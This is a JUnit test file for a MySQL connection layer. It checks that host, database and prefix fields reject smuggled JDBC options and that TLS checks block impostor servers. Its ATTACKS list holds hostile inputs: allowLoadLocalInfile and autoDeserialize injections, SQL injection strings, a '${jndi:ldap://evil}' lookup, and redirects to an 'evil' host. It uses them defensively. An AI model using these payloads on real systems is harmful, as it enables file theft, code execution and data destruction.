package app.marketingstatuses.shop;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import app.marketingstatuses.domain.Refusal;
import app.marketingstatuses.shop.ConnectionSettings.Tls;
import app.marketingstatuses.testing.Certificate;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Words that want to become options of the driver or parts of a statement, and servers that are not what they seem. */
class ConnectionAttacksTest {
    private static final int MILLIS = 4_000;

    private static final List<String> ATTACKS = List.of(
            "?allowLoadLocalInfile=true",
            "&allowLoadLocalInfile=true",
            "?allowLoadLocalInfile=true&allowUrlInLocalInfile=true",
            "?allowMultiQueries=true",
            "?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
            "?socketFactory=evil.Factory",
            "?propertiesTransform=evil.Transform",
            "?sslMode=DISABLED",
            "#?allowLoadLocalInfile=true",
            "%3FallowLoadLocalInfile=true",
            "(allowLoadLocalInfile=true)",
            "address=(host=evil)(allowLoadLocalInfile=true)",
            "(host=evil,allowLoadLocalInfile=true)",
            ",evil:3306",
            ",[host=evil]",
            "@evil",
            "/evil",
            "\\evil",
            "//evil:3306/shop",
            "jdbc:mysql://evil/",
            "`; DROP TABLE x; --",
            "' OR '1'='1",
            "\" OR \"1\"=\"1",
            "; SELECT 1",
            "/*x*/",
            "\u0000",
            "\r\n",
            "\t",
            "${jndi:ldap://evil}",
            "\u202eevil?",
            "\uff1fallowLoadLocalInfile=true",
            "*",
            "+",
            "<evil>");

    @TempDir
    Path folder;

    private String secret;

    @BeforeEach
    void aFileNobodyMaySee() throws IOException {
        secret = "canary " + System.nanoTime();
        Files.writeString(folder.resolve("secret"), secret);
    }

    private PretendMySql server(Certificate certificate) {
        return new PretendMySql(
                certificate == null ? null : certificate.server(),
                folder.resolve("secret").toString());
    }

    /** Each attack alone, after, before and within what would be right. */
    private static Set<String> payloads(String right) {
        Set<String> all = new LinkedHashSet<>();
        for (String attack : ATTACKS) {
            all.addAll(List.of(attack, right + attack, attack + right, right + attack + right));
        }
        return all;
    }

    @Test
    void noPayloadReachesTheDriver() {
        try (PretendMySql server = server(null)) {
            List<String> tried = new ArrayList<>();
            for (String host : payloads("localhost")) {
                tried.add(refused(host, server.port(), "shop", "modx_"));
                tried.add(refused("localhost:" + server.port() + "/shop" + host, server.port(), "shop", "modx_"));
            }
            payloads("shop").forEach(name -> tried.add(refused("localhost", server.port(), name, "modx_")));
            payloads("modx_").forEach(prefix -> tried.add(refused("localhost", server.port(), "shop", prefix)));

            assertThat(tried).hasSizeGreaterThan(400);
            assertThat(server.asked).isEmpty();
        }
    }

    private static String refused(String host, int port, String database, String prefix) {
        String tried = String.join(" ", host, database, prefix);
        Refusal refusal = catchThrowableOfType(
                Refusal.class,
                () -> MySqlDatabase.open(settings(host, port, database, prefix, Tls.OFF), MILLIS)
                        .close());
        assertThat(refusal).as(tried).isNotNull();
        assertThat(refusal.kind()).as(tried).isEqualTo(Refusal.Kind.USAGE);
        return tried;
    }

    private static ConnectionSettings settings(String host, int port, String database, String prefix, Tls tls) {
        return new ConnectionSettings(host, port, database, "root", "hunter2", prefix, tls);
    }

    @Test
    void aServerThatAsksForAFileGetsNoneWhateverUserAndPasswordSay() {
        try (PretendMySql server = server(null)) {
            for (String words : List.of("root", "x?allowLoadLocalInfile=true", "x&allowMultiQueries=true", "(a=b)")) {
                ConnectionSettings settings =
                        new ConnectionSettings("127.0.0.1", server.port(), "shop", words, words, "modx_", Tls.OFF);
                Refusal refusal = catchThrowableOfType(
                        Refusal.class,
                        () -> MySqlDatabase.open(settings, MILLIS).close());
                assertThat(refusal.kind()).isEqualTo(Refusal.Kind.NO_SHOP);
            }

            assertThat(server.logins)
                    .hasSizeGreaterThanOrEqualTo(4)
                    .anyMatch(login -> login.contains("x&allowMultiQueries=true"));
            assertThat(server.asked)
                    .allSatisfy(asked -> assertThat(asked & (PretendMySql.LOCAL_FILES | PretendMySql.MULTI_STATEMENTS))
                            .isZero())
                    .allSatisfy(asked ->
                            assertThat(asked & PretendMySql.MULTI_RESULTS).isNotZero());
            assertThat(server.handedOver)
                    .as("answers to a request for a file")
                    .hasSizeGreaterThanOrEqualTo(4)
                    .allSatisfy(words -> assertThat(new String(words, StandardCharsets.ISO_8859_1))
                            .doesNotContain(secret.substring(0, 6)));
            assertThat(server.handedOver.stream()
                            .mapToInt(words -> words.length)
                            .sum())
                    .isZero();
        }
    }

    @Test
    void aCertificateForAnotherHostIsRefusedBeforeAnythingIsSaid() {
        Certificate right = new Certificate(folder, "localhost");
        Certificate wrong = new Certificate(folder, "other.example.com");
        right.trusted(() ->
                assertThat(logins(right, "localhost", Tls.VERIFY_IDENTITY)).isNotEmpty());
        wrong.trusted(() -> {
            assertThat(logins(wrong, "localhost", Tls.VERIFY_IDENTITY)).isEmpty();
            assertThat(logins(wrong, "localhost", Tls.VERIFY_CA)).isNotEmpty();
            assertThat(logins(right, "localhost", Tls.VERIFY_CA)).isEmpty();
            assertThat(logins(right, "localhost", Tls.VERIFY_IDENTITY)).isEmpty();
        });
    }

    @Test
    void whoOffersNoEncryptionIsToldNothingWhereItIsRequired() {
        for (Tls tls : List.of(Tls.REQUIRED, Tls.VERIFY_CA, Tls.VERIFY_IDENTITY)) {
            assertThat(logins(null, "localhost", tls)).isEmpty();
        }
        assertThat(logins(null, "localhost", Tls.OFF)).isNotEmpty();
    }

    @Test
    void throughATunnelTheCertificateIsTheFarServers() {
        Certificate far = new Certificate(folder, "db.example.com");
        Certificate here = new Certificate(folder, "localhost");
        far.trusted(() ->
                assertThat(logins(far, "db.example.com", Tls.VERIFY_IDENTITY)).isNotEmpty());
        here.trusted(() ->
                assertThat(logins(here, "db.example.com", Tls.VERIFY_IDENTITY)).isEmpty());
    }

    /** What a server with that certificate hears from a client that wants the host; through a tunnel where that is not here. */
    private List<String> logins(Certificate certificate, String host, Tls tls) {
        try (PretendMySql server = server(certificate)) {
            ConnectionSettings settings =
                    settings(host, host.equals("localhost") ? server.port() : 3306, "shop", "modx_", tls);
            Refusal refusal = catchThrowableOfType(Refusal.class, () -> {
                if (host.equals("localhost")) {
                    MySqlDatabase.open(settings, MILLIS).close();
                } else {
                    MySqlDatabase.open(settings, new Tunnel(server.port())).close();
                }
            });
            assertThat(refusal.kind()).isEqualTo(Refusal.Kind.NO_SHOP);
            assertThat(refusal.getMessage()).doesNotContain("hunter2");
            return server.logins;
        }
    }

    private record Tunnel(int localPort) implements Way {
        @Override
        public Optional<Refusal> trouble() {
            return Optional.empty();
        }

        @Override
        public void close() {}
    }
}
